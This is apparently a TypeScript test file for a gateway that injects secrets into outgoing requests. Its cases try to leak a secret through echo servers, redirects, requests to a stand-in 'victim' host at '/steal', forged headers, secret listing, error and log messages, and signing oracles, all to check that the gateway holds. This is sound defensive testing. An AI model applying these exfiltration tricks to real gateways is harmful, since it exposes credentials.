import { echoes } from '../echoes.ts'
import type { RequestCase } from './request-attack.ts'

const fetching = (url: string, rest: object = {}) => ({ capability: 'net.http', method: 'fetch', input: { url, ...rest } })
const both = { 'net.http': { allow: [{ url: 'http://127.0.0.1:$echo/*' }, { url: 'http://127.0.0.1:$victim/*' }] } }
const key = { secrets: { key: { label: 'Key', hosts: ['http://127.0.0.1:$echo'], into: { header: 'x-key' } } } }
const asks = { ...both, ...key }

/** The value is put in for the echo server, and for nobody else. */
export const secretCases: readonly RequestCase[] = [
  ...Object.keys(echoes).map((disguise): RequestCase => ({
    name: `an echo, ${disguise}`, tries: `has a server give its secret back: ${disguise}`, request: fetching(`http://127.0.0.1:$echo/echo/${disguise}`, { redirect: 'manual' }), asks, mayAnswer: true, disguise,
  })),
  { name: 'an echo, followed', tries: 'follows a redirect that carries the secret in its address', request: fetching('http://127.0.0.1:$echo/echo/location'), asks, mayAnswer: true, disguise: 'location' },
  { name: 'another host', tries: 'sends the secret to a host that it is not for', request: fetching('http://127.0.0.1:$victim/steal'), asks, mayAnswer: true },
  { name: 'a redirect to another host', tries: 'is sent on, with the secret, to another host', request: fetching('http://127.0.0.1:$echo/to?http%3A%2F%2F127.0.0.1%3A$victim%2Fsteal'), asks, mayAnswer: true },
  { name: 'the header by hand', tries: 'writes the placeholder into a header of its own', request: fetching('http://127.0.0.1:$victim/steal', { headers: [['x-key', '{key}']] }), asks, mayAnswer: true },
  { name: 'the list', tries: 'lists its secrets for their values', request: { capability: 'secrets', method: 'list', input: {} }, asks, mayAnswer: true },
  { name: 'an error', tries: 'makes a request with its secret fail, for the error to tell it', request: fetching('http://127.0.0.1:$echo/echo/raw', { headers: [['x-key', 'mine']] }), asks, mayAnswer: true },
  { name: 'a log line', tries: 'has the gateway log a request with its secret', request: { capability: 'log', method: 'write', input: { level: 'error', message: 'the key is {key} ${key} $key' } }, asks: { ...asks, log: {} }, mayAnswer: true },
  { name: 'a signature', tries: 'signs with the secret and learns it from the signature', request: { capability: 'secrets', method: 'sign', input: { handle: 'signing', data: '' } }, asks: { secrets: { signing: { label: 'Signing', use: 'sign' } } }, mayAnswer: true },
  { name: 'a check', tries: 'checks a signature and learns the right one', request: { capability: 'secrets', method: 'verify', input: { handle: 'signing', data: 'AAAA', signature: 'AAAA' } }, asks: { secrets: { signing: { label: 'Signing', use: 'verify' } } }, mayAnswer: true },
]
